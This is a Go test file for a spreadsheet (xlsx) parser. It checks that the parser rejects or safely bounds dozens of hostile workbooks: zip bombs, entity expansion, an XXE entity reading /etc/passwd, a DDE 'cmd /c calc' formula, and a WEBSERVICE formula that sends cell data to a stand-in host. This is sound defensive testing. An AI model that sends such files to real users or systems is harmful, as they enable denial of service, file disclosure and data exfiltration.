package workbook

import (
	"errors"
	"fmt"
	"strings"
	"testing"
)

// attack is a file made to cost its reader dear, or to lead it astray; a code of ""
// means that it is read.
type attack struct {
	name string
	data func(t testing.TB) []byte
	code FaultCode
	part string
	says string // in the fault's detail
}

// attacks are all the hostile files that we know of.
func attacks() []attack {
	healthy := bookOf(`<row r="1"><c r="A1" t="s"><v>0</v></c></row>`)
	main := func(open, piece string, n int, closing string) func(testing.TB) []byte {
		return within(healthy, "xl/workbook.xml", "</workbook>", open, piece, n, closing)
	}
	rows := func(open, piece string, n int, closing string) func(testing.TB) []byte {
		return within(healthy, sheetPart, "</sheetData>", open, piece, n, closing)
	}
	tail := func(open, piece string, n int, closing string) func(testing.TB) []byte {
		return within(healthy, sheetPart, "</worksheet>", open, piece, n, closing)
	}
	styles := func(before, piece string, n int, after string) func(testing.TB) []byte {
		return bomb(healthy, "xl/styles.xml", `<styleSheet xmlns="`+mainSpace+`">`+before, piece, n, after+`</styleSheet>`, 0)
	}
	table := func(before, piece string, n int, after string) func(testing.TB) []byte {
		return bomb(healthy, "xl/sharedStrings.xml", `<sst xmlns="`+mainSpace+`">`+before, piece, n, after+`</sst>`, 0)
	}
	part := func(name, before, piece string, n int, after string) func(testing.TB) []byte {
		return bomb(healthy, name, before, piece, n, after, 0)
	}
	zipped := func(b rawBook) func(testing.TB) []byte { return func(t testing.TB) []byte { return b.zip(t) } }
	zeros, blanks := strings.Repeat("\x00", 1<<20), strings.Repeat(" ", 1<<20)
	dtd := func(s string) rawBook {
		return healthy.with(sheetPart, s+strings.Replace(healthy[sheetPart], "<sheetData>", "<sheetData>&lol9;", 1))
	}
	return []attack{
		{"2 GB of zeros as a picture", part("xl/media/image1.png", "", zeros, 2048, ""), TooLarge, "xl/media/image1.png", "unzipped"},
		{"2 GB of zeros said to be 1 MB", bomb(healthy, "xl/media/image1.png", "", zeros, 2048, "", 1<<20), Damaged, "xl/media/image1.png", "entry says"},
		{"a sheet of 300 MB of blanks said to be 1 MB", bomb(healthy, sheetPart, healthy[sheetPart], blanks, 300, "", 1<<20), Damaged, sheetPart, "entry says"},
		{"as many zeros as are allowed, as a picture", part("xl/media/image1.png", "", zeros, int(FormLimits.PartBytes>>20), ""), "", "", ""},
		{"a picture made to unpack slowly", slowly(healthy, "xl/media/image1.png", "", "", 12<<20), "", "", ""},
		{"a larger one", slowly(healthy, "xl/media/image1.png", "", "", 24<<20), TooLarge, "xl/media/image1.png", "to unpack"},
		{"a sheet made to unpack slowly", slowly(healthy, sheetPart, "<worksheet><!--", "--></worksheet>", 12<<20), "", "", ""},
		{"1 GB of blanks in customXml", part("customXml/item1.xml", "<a>", blanks, 1024, "</a>"), TooLarge, "customxml/item1.xml", "unzipped"},
		{"blanks in the relationships", part("_rels/.rels", strings.TrimSuffix(healthy["_rels/.rels"], "</Relationships>"), blanks, 16, "</Relationships>"), "", "", ""},
		{"a bomb in the content types", part("[Content_Types].xml", "<Types>", strings.Repeat(`<Default Extension="a" ContentType="b"/>`, 1000), 500, "</Types>"), "", "", ""},
		{"the largest content types", part("[Content_Types].xml", "<Types>", strings.Repeat(`<a/>`, 1000), 5_000, "</Types>"), TooLarge, "[content_types].xml", "elements"},
		{"a million relationships", part("xl/_rels/workbook.xml.rels", strings.TrimSuffix(healthy["xl/_rels/workbook.xml.rels"], "</Relationships>"), strings.Repeat(`<Relationship/>`, 1000), 1000, "</Relationships>"), TooLarge, "xl/_rels/workbook.xml.rels", "relationships"},
		{"parts that overlap (Fifield)", overlapping(healthy, 20), Damaged, "k00000", "overlap"},
		{"parts that overlap, 1,000 of them", overlapping(healthy, 1000), TooLarge, "k00030", "unzipped"},
		{"a workbook in the workbook", func(t testing.TB) []byte {
			return healthy.with("xl/embeddings/book1.xlsx", string(healthy.zip(t))).zip(t)
		}, "", "", ""},
		{"60,000 parts", func(t testing.TB) []byte {
			return entries(t, healthy, 60_000, func(i int) string { return fmt.Sprint(i) })
		}, TooLarge, "", "parts"},
		{"2,000 empty parts", func(t testing.TB) []byte {
			return entries(t, healthy, 1990, func(i int) string { return fmt.Sprint(i) })
		}, "", "", ""},
		{"parts with long names", func(t testing.TB) []byte {
			return entries(t, healthy, 200, func(i int) string { return strings.Repeat("a/", 30_000) + fmt.Sprint(i) })
		}, TooLarge, "", "name"},

		{"a million cell styles", styles("<cellXfs>", strings.Repeat(`<xf numFmtId="0"/>`, 1000), 1000, "</cellXfs>"), TooLarge, "xl/styles.xml", "cell styles"},
		{"65,000 number formats", styles("<numFmts>", numbered(65_000, `<numFmt numFmtId="%d" formatCode="yyyy"/>`), 1, "</numFmts>"), TooLarge, "xl/styles.xml", "number formats"},
		{"a million fonts", styles("<fonts>", strings.Repeat(`<font><sz val="8"/></font>`, 1000), 600, "</fonts>"), "", "", ""},
		{"a number format of a megabyte", styles(`<numFmts><numFmt numFmtId="170" formatCode="`, strings.Repeat("y", 1000), 900, `"/></numFmts>`), TooLarge, "xl/styles.xml", "text"},

		{"a dimension of the whole sheet", zipped(healthy.with(sheetPart, strings.Replace(healthy[sheetPart], "<sheetData>", `<dimension ref="A1:XFD1048576"/><sheetData>`, 1))), "", "", ""},
		{"one cell in the last corner", zipped(bookOf(`<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`)), TooManyCells, sheetPart, "XFD1048576"},
		{"1,000 rows to the last column", zipped(bookOf(rowsAt(1000, "XFD"))), TooManyCells, sheetPart, "XFD1"},
		{"20,000 rows to the last column", zipped(bookOf(rowsAt(20_000, "XFD"))), TooManyCells, sheetPart, "XFD1"},
		{"100,000 rows", zipped(bookOf(rowsAt(100_000, "A"))), TooManyCells, sheetPart, "A10001"},
		{"1,048,576 styled empty rows", rows("", strings.Repeat(`<row s="1"/>`, 1024), 1024, ""), TooLarge, sheetPart, "elements"},
		{"1,048,576 styled empty rows with heights", rows("", strings.Repeat(`<row r="1048576" s="1" customFormat="1" ht="15" customHeight="1"/>`, 1024), 1024, ""), TooLarge, sheetPart, "unzipped"},
		{"as many empty rows as are allowed", rows("", strings.Repeat(`<row/>`, 1000), 900, ""), "", "", ""},
		{"empty cells in one row", rows(`<row r="9">`, strings.Repeat(`<c/>`, 1000), 4000, "</row>"), BadReference, sheetPart, "column"},
		{"empty styled cells", rows("", `<row>`+strings.Repeat(`<c s="1"/>`, 1600)+`</row>`, 1000, ""), "", "", ""},
		{"cells as many as fit", rows("", `<row>`+strings.Repeat(`<c><v>1</v></c>`, 250)+`</row>`, 4000, ""), TooManyCells, sheetPart, "filled"},
		{"cells with formulas as many as fit", rows("", `<row>`+strings.Repeat(`<c><f>1</f></c>`, 250)+`</row>`, 4000, ""), TooManyCells, sheetPart, "filled"},
		{"rows in the wrong order", zipped(bookOf(backwards(10_000, 30))), "", "", ""},
		{"one row, again and again", rows("", `<row r="1"><c r="A1"><v>1</v></c></row>`, 100_000, ""), TooManyCells, sheetPart, "filled rows"},
		{"50,000 merges", tail("<mergeCells>", numbered(1000, `<mergeCell ref="A%d:B7"/>`), 50, "</mergeCells>"), TooLarge, sheetPart, "merged"},
		{"a million merges of one cell", tail("<mergeCells>", strings.Repeat(`<mergeCell ref="A1"/>`, 1000), 1000, "</mergeCells>"), TooLarge, sheetPart, "merged"},
		{"a million hyperlinks", tail("<hyperlinks>", strings.Repeat(`<hyperlink ref="A1" r:id="a"/>`, 1000), 600, "</hyperlinks>"), "", "", ""},
		{"a million validations", tail("<dataValidations>", strings.Repeat(`<dataValidation sqref="A1"/>`, 1000), 600, "</dataValidations>"), "", "", ""},
		{"elements as many as fit", tail("<a>", strings.Repeat(`<b/>`, 1000), 3900, "</a>"), "", "", ""},
		{"more elements than fit", tail("<a>", strings.Repeat(`<b/>`, 1000), 5000, "</a>"), TooLarge, sheetPart, "elements"},

		{"2 million nested elements", rows("", strings.Repeat("<a>", 1000), 2000, ""), TooLarge, sheetPart, "nested"},
		{"2 million nested elements where nothing is read", part("xl/drawings/drawing1.xml", "", strings.Repeat("<a>", 1000), 2000, ""), TooLarge, "xl/drawings/drawing1.xml", "nested"},
		{"the same in VML", part("xl/drawings/vml1.vml", "", strings.Repeat("<a>", 1000), 2000, ""), TooLarge, "xl/drawings/vml1.vml", "nested"},
		{"end tags that close nothing, in VML", part("xl/drawings/vml1.vml", strings.Repeat("<a>", 200), strings.Repeat("</b>", 1000), 4000, ""), TooLarge, "xl/drawings/vml1.vml", "elements"},
		{"a million comments", part("xl/comments1.xml", "<comments><commentList>", strings.Repeat(`<comment ref="A1"><text><t>x</t></text></comment>`, 1000), 1000, "</commentList></comments>"), TooLarge, "xl/comments1.xml", "unzipped"},
		{"comments as many as fit", part("xl/comments1.xml", "<comments><commentList>", strings.Repeat(`<comment ref="A1"><text><t>x</t></text></comment>`, 1000), 330, "</commentList></comments>"), "", "", ""},
		{"the shapes of comments, in VML", part("xl/drawings/vml1.vml", "<xml>", strings.Repeat(`<v:shape id="a" style="b"><br><x:Row>1</x:Row></v:shape>`, 1000), 280, "</xml>"), "", "", ""},

		{"billion laughs", zipped(dtd(`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol9 "&lol;&lol;">]>`)), Entity, sheetPart, "declared"},
		{"a file of ours asked for (XXE)", zipped(dtd(`<!DOCTYPE a [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>`)), Entity, sheetPart, "declared"},
		{"DOCTYPE where nothing is read", zipped(healthy.with("docProps/custom.xml", `<!DOCTYPE a SYSTEM "http://mall.example/a.dtd"><a/>`)), Entity, "docprops/custom.xml", "declared"},
		{"an entity of its own", zipped(bookOf(`<row r="1"><c r="A1" t="str"><v>&b;</v></c></row>`)), Entity, sheetPart, "entity"},
		{"character numbers as many as fit", rows(`<row r="9"><c r="A9" t="str"><v>`, strings.Repeat("&#65;", 1000), 3000, "</v></c></row>"), TooLarge, sheetPart, "text"},

		{"a string of 1 MB, 12,000 times", func(t testing.TB) []byte {
			return healthy.with("xl/sharedStrings.xml", `<sst xmlns="`+mainSpace+`"><si><t>`+strings.Repeat("x", 1<<20)+`</t></si></sst>`).zip(t)
		}, TooLarge, sharedPart, "text"},
		{"the longest string, 12,000 times", func(t testing.TB) []byte {
			b := bookOf(strings.ReplaceAll(strings.ReplaceAll(rowsAt(10_000, "A"), "<v>1<", "<v>0<"), "<c ", `<c t="s" `))
			return b.with("xl/sharedStrings.xml", `<sst xmlns="`+mainSpace+`"><si><t>`+strings.Repeat("x", 32767)+`</t></si></sst>`).zip(t)
		}, TooLarge, sheetPart, "text"},
		{"long strings as many as fit", table("", `<si><t>`+strings.Repeat("x", 32000)+`</t></si>`, 600, ""), TooLarge, sharedPart, "shared strings"},
		{"a million shared strings", table("", strings.Repeat("<si/>", 1000), 1000, ""), TooLarge, sharedPart, "shared strings"},
		{"a text of a million runs", table("<si>", strings.Repeat("<r><t>x</t></r>", 1000), 1000, "</si>"), TooLarge, sharedPart, "text"},
		{"a text of a million empty runs", table("<si>", strings.Repeat("<r/>", 1000), 4000, "</si>"), TooLarge, sharedPart, "elements"},
		{"runs in a cell", rows(`<row r="9"><c r="A9" t="inlineStr"><is>`, strings.Repeat("<r><rPr><b/></rPr><t/></r>", 1000), 600, "</is></c></row>"), TooLarge, sheetPart, "elements"},
		{"a million defined names", main("<definedNames>", strings.Repeat(`<definedName name="a">A!$A$1</definedName>`, 1000), 380, "</definedNames>"), TooLarge, "xl/workbook.xml", "names"},
		{"a million empty sheets", main("<sheets>", strings.Repeat(`<sheet/>`, 1000), 1000, "</sheets>"), TooLarge, "xl/workbook.xml", "sheets"},

		{"a million attributes on one element", rows("<row", strings.Repeat(` a=""`, 1000), 1000, "/>"), TooLarge, sheetPart, "a tag"},
		{"a million attributes where nothing is read", part("docProps/app.xml", "<a", strings.Repeat(` a=""`, 1000), 3000, "/>"), "", "", ""},
		{"an attribute of 15 MB", rows(`<row r="`, strings.Repeat("1", 1000), 15_000, `"/>`), TooLarge, sheetPart, "a tag"},
		{"an attribute of 15 MB where nothing is read", part("docProps/app.xml", `<a b="`, strings.Repeat("1>", 1000), 7500, `"/>`), "", "", ""},
		{"a tag of 15 MB", rows("<", strings.Repeat("r", 1000), 15_000, "/>"), TooLarge, sheetPart, "a tag"},
		{"a tag of 15 MB where nothing is read", part("docProps/app.xml", "<", strings.Repeat("r", 1000), 15_000, "/>"), TooLarge, "docprops/app.xml", "a tag"},
		{"a tag of 300 MB", part("docProps/app.xml", "<", strings.Repeat("r", 1<<20), 300, "/>"), TooLarge, "docprops/app.xml", "unzipped"},
		{"a comment of 15 MB", rows("<!--", strings.Repeat("- ", 1000), 7500, "-->"), "", "", ""},
		{"prefixes as many as fit", rows("", strings.Repeat(`<a xmlns:a="`+mainSpace+`"/>`, 10)+numbered(1000, `<p%d:row xmlns:p%[1]d="`+mainSpace+`"/>`), 1, ""), TooLarge, sheetPart, "prefixes"},
		{"a sheet in UTF-16", utf16Sheet(healthy, 100_000), TooManyCells, sheetPart, "A10001"},
		{"blanks in UTF-16", bomb(healthy, sheetPart, twoByte(`<worksheet>`), strings.Repeat(" \x00", 1000), 12_000, "", 0), Damaged, sheetPart, "ends inside"},

		{"a size that is too small", func(t testing.TB) []byte { return lying(t, healthy, sheetPart, 100) }, Damaged, sheetPart, "entry says"},
		{"a size that is too great", func(t testing.TB) []byte { return lying(t, healthy, sheetPart, 1000) }, Damaged, sheetPart, "entry says"},
		{"a size of 4 GB", func(t testing.TB) []byte { return lying(t, healthy, sheetPart, 4<<30) }, TooLarge, sheetPart, "unzipped"},

		{"formulas with side effects", zipped(bookOf(`<row r="1"><c r="A1" t="str"><f>cmd|'/c calc'!A1</f><v>Sala</v></c>` +
			`<c r="B1" t="str"><f>WEBSERVICE("http://mall.example/"&amp;A1)</f><v>x</v></c><c r="C1"><f>HYPERLINK("http://mall.example","Ja")</f></c></row>`)), "", "", ""},
		{"links to other workbooks", zipped(healthy.with("xl/externalLinks/externalLink1.xml", `<externalLink><externalBook r:id="rId1"/><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`).
			with("xl/externalLinks/_rels/externalLink1.xml.rels", relationships("rId1", "externalLinkPath", `http://mall.example/a.xlsx" TargetMode="External`))), "", "", ""},
	}
}

// Every hostile file ends in a fault that says where, or is read.
func TestReadAttacks(t *testing.T) {
	for _, a := range attacks() {
		t.Run(a.name, func(t *testing.T) {
			data := a.data(t)
			before := allocated()
			_, err := Read(data, FormLimits)
			cost := allocated() - before
			a.judge(t, err)
			if cost > 64<<20 { // allocated in all: more than ever stands at once
				t.Errorf("took %d MB", cost>>20)
			}
			bounded(t, data)
		})
	}
}

func (a attack) judge(t *testing.T, err error) {
	t.Helper()
	if a.code == "" {
		if err != nil {
			t.Errorf("is not read: %v", err)
		}
		return
	}
	var f *Fault
	if !errors.As(err, &f) {
		t.Fatalf("want a fault, got %v", err)
	}
	if f.Code != a.code || f.Part != a.part || !strings.Contains(f.Detail, a.says) {
		t.Errorf("got %v", f)
	}
	if !strings.HasSuffix(f.Swedish(), ".") {
		t.Errorf("no sentence for the sender: %q", f.Swedish())
	}
}
